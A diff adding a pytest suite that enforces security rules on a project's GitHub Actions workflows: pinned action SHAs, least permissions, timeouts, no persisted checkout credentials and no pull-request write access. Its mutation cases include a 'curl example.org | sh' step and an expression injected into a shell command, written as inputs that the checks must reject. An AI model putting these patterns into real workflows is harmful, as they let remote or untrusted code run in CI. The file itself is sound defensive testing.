@@ -1,0 +1,200 @@
+"""What holds for .github/: pinned actions, least permissions, and no logic: a step runs what CI here runs too."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+ROOT = Path(__file__).parents[1]
+WORKFLOWS = sorted((ROOT / ".github/workflows").glob("*.yml"))
+ACTIONS = sorted((ROOT / ".github/actions").glob("*/action.yml"))
+FILES = [*WORKFLOWS, *ACTIONS]
+# CI of the project runs on a bare Debian, where git, make and Python are to be installed before there is a Makefile.
+BARE = {("ci.yml", "What a bare Debian lacks to begin"), ("ci.yml", "Check out")}
+OURS = re.compile(r'make(?: -C "\$GITHUB_ACTION_PATH/\.\./\.\./\.\.")? [a-z-]+|(?:\.venv/bin/)?envcheck [^|;&$`]+')
+PINNED = re.compile(r"uses: ([\w.-]+/[\w./-]+)@([0-9a-f]{40}) # v\d+\.\d+\.\d+$")
+LOCAL = re.compile(r"uses: (\./\.github/(?:actions/[\w-]+|workflows/[\w-]+\.yml))$")
+names = pytest.mark.parametrize("path", FILES, ids=lambda path: f"{path.parent.name}/{path.name}")
+workflows = pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
+
+
+def read(path: Path) -> dict[Any, Any]:
+    document = yaml.safe_load(path.read_text(encoding="utf-8"))
+    assert isinstance(document, dict)
+    return document
+
+
+def steps(path: Path) -> Iterator[dict[str, Any]]:
+    document = read(path)
+    parts = [document["runs"]] if "runs" in document else document["jobs"].values()
+    for part in parts:
+        yield from part.get("steps", [])
+
+
+def faults(text: str, name: str = "x.yml") -> list[str]:
+    """Return what breaks the rules in the text of a workflow or an action."""
+    document = yaml.safe_load(text)
+    found = [line.strip() for line in text.splitlines() if re.search(r"\buses:", line) and not used(line)]
+    parts = [document["runs"]] if "runs" in document else [*document["jobs"].values()]
+    for part in parts:
+        for step in part.get("steps", []):
+            found += step_faults(step, name)
+    if "jobs" in document:
+        found += [] if document.get("permissions") == {} else ["permissions of the workflow"]
+        found += [f"permissions of {key}" for key, job in document["jobs"].items() if not granted(job)]
+        found += [f"timeout of {key}" for key, job in document["jobs"].items() if not bounded(job)]
+    return found
+
+
+def used(line: str) -> bool:
+    words = line.strip().removeprefix("- ")
+    return bool(PINNED.fullmatch(words) or LOCAL.fullmatch(words))
+
+
+def step_faults(step: dict[str, Any], name: str) -> list[str]:
+    run = str(step.get("run", "")).strip()
+    if run and not OURS.fullmatch(run) and (name, step.get("name")) not in BARE:
+        return [run]
+    checkout = str(step.get("uses", "")).startswith("actions/checkout@")
+    keeps = checkout and step.get("with", {}).get("persist-credentials") is not False
+    return ["the checkout keeps its credentials"] if keeps else []
+
+
+def granted(job: dict[str, Any]) -> bool:
+    """Tell whether a job says its permissions one by one."""
+    grants = job.get("permissions")
+    return isinstance(grants, dict) and set(grants.values()) <= {"read", "write", "none"}
+
+
+def bounded(job: dict[str, Any]) -> bool:
+    return "uses" in job or isinstance(job.get("timeout-minutes"), int)
+
+
+@names
+def test_the_rules_hold(path: Path) -> None:
+    assert faults(path.read_text(encoding="utf-8"), path.name) == []
+
+
+def test_there_is_what_these_tests_read() -> None:
+    assert {path.name for path in WORKFLOWS} == {"ci.yml", "gpu.yml", "images.yml", "refresh.yml", "release.yml"}
+    assert [path.parent.name for path in ACTIONS] == ["validate"]
+    assert {("ci.yml", step["name"]) for step in steps(WORKFLOWS[0])} - {("ci.yml", "Everything, as here")} == BARE
+
+
+GOOD = """\
+permissions: {}
+jobs:
+  one:
+    timeout-minutes: 5
+    permissions:
+      contents: read
+    steps:
+      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
+        with:
+          persist-credentials: false
+      - run: make jobs
+"""
+
+
+@pytest.mark.parametrize(
+    ("was", "broken"),
+    [
+        ("", ""),
+        ("@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7"),
+        (" # v7.0.1", ""),
+        ("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@3d3c42e"),
+        ("persist-credentials: false", "persist-credentials: true"),
+        ("persist-credentials: false", "fetch-depth: 1"),
+        ("make jobs", "make jobs && curl example.org | sh"),
+        ("make jobs", 'make jobs CELLS="${{ inputs.cells }}"'),
+        ("make jobs", "envcheck images | tee x"),
+        ("make jobs", "python -m pip install torch-envcheck"),
+        ("permissions: {}", "permissions: {contents: read}"),
+        ("permissions: {}", "name: x"),
+        ("    permissions:\n      contents: read\n", "    permissions: write-all\n"),
+        ("    permissions:\n      contents: read\n", ""),
+        ("    timeout-minutes: 5\n", ""),
+    ],
+)
+def test_each_rule_finds_what_it_is_for(was: str, broken: str) -> None:
+    assert was in GOOD
+    assert bool(faults(GOOD.replace(was, broken))) == bool(was)
+
+
+def test_every_make_target_of_a_step_is_in_the_makefile_and_ci_knows_every_step() -> None:
+    makefile = (ROOT / "Makefile").read_text(encoding="utf-8")
+    targets = {name for line in re.findall(r"^([a-z][a-z -]*):", makefile, re.MULTILINE) for name in line.split()}
+    runs = [str(step["run"]).split() for path in FILES for step in steps(path) if "run" in step]
+    made = {words[-1] for words in runs if words[0] == "make"}
+    assert made <= targets
+    assert made == {"ci", "jobs", "image", "stage", "staged", "gate", "validate", "refresh", "dist"}
+
+
+def test_one_action_is_of_one_commit() -> None:
+    pins: dict[str, set[str]] = {}
+    for path in FILES:
+        for name, sha in re.findall(r"uses: ([\w.-]+/[\w./-]+)@([0-9a-f]{40} # v[\d.]+)", path.read_text("utf-8")):
+            pins.setdefault(name, set()).add(sha)
+    assert {name: found for name, found in pins.items() if len(found) != 1} == {}
+    assert len(pins) > 5
+
+
+def test_no_expression_reaches_a_shell() -> None:
+    runs = [str(step.get("run", "")) for path in FILES for step in steps(path)]
+    assert [run for run in runs if "${{" in run] == []
+
+
+@workflows
+def test_a_pull_request_never_writes_and_never_reaches_a_machine_of_ours(path: Path) -> None:
+    document = read(path)
+    triggers = document[True]  # YAML 1.1 reads `on` as true
+    if "pull_request_target" in triggers or "workflow_run" in triggers:
+        pytest.fail("it runs with the rights of the repository on the code of a stranger")
+    if "pull_request" not in triggers:
+        return
+    for name, job in document["jobs"].items():
+        writes = "write" in job["permissions"].values()
+        away = "!= 'pull_request'" in str(job.get("if", "")) or needs_one_away(document, job)
+        assert not writes or away, name
+        assert "self-hosted" not in str(job.get("runs-on")), name
+        assert "gpu.yml" not in str(job.get("uses")) or away, name
+
+
+def needs_one_away(document: dict[Any, Any], job: dict[str, Any]) -> bool:
+    needed = document["jobs"].get(str(job.get("needs")), {})
+    return "!= 'pull_request'" in str(needed.get("if", ""))
+
+
+def test_the_gate_pulls_by_digest_what_was_staged() -> None:
+    images = read(ROOT / ".github/workflows/images.yml")["jobs"]
+    assert images["gpu"]["uses"] == "./.github/workflows/gpu.yml"
+    assert images["gpu"]["with"]["image"] == "${{ matrix.image }}"
+    stage = (ROOT / ".ci/step").read_text(encoding="utf-8").split("\nstage()")[1].split("\n}")[0]
+    assert '"$digest"' in stage
+    assert 'by_digest "$digest"' in stage
+
+
+def functions() -> dict[str, str]:
+    """Return the text of each step of .ci/step."""
+    text = (ROOT / ".ci/step").read_text(encoding="utf-8")
+    return dict(re.findall(r"(?ms)^([a-z]+)\(\) \{\n(.*?)^\}", text))
+
+
+@names
+def test_a_step_gets_what_it_needs_and_nothing_that_it_does_not_read(path: Path) -> None:
+    scripts = "".join((ROOT / ".ci" / name).read_text(encoding="utf-8") for name in ("step", "setup"))
+    for step in steps(path):
+        name, env = str(step.get("run", "")).rpartition(" ")[2], set(step.get("env", {}))
+        needed = re.search(r"^ *need ([A-Z_ ]+)$", functions().get(name, ""), re.MULTILINE)
+        assert set(needed[1].split() if needed else []) <= env, step["name"]
+        assert [key for key in env if not re.search(rf"\${{?{key}\b", scripts)] == [], step["name"]
+
+
+def test_needs_are_found() -> None:
+    assert "need IMAGE STAGING CELL TARGET PLATFORM" in functions()["stage"]
+    assert set(functions()) >= {"jobs", "image", "stage", "staged", "gate", "validate", "refresh", "dist"}
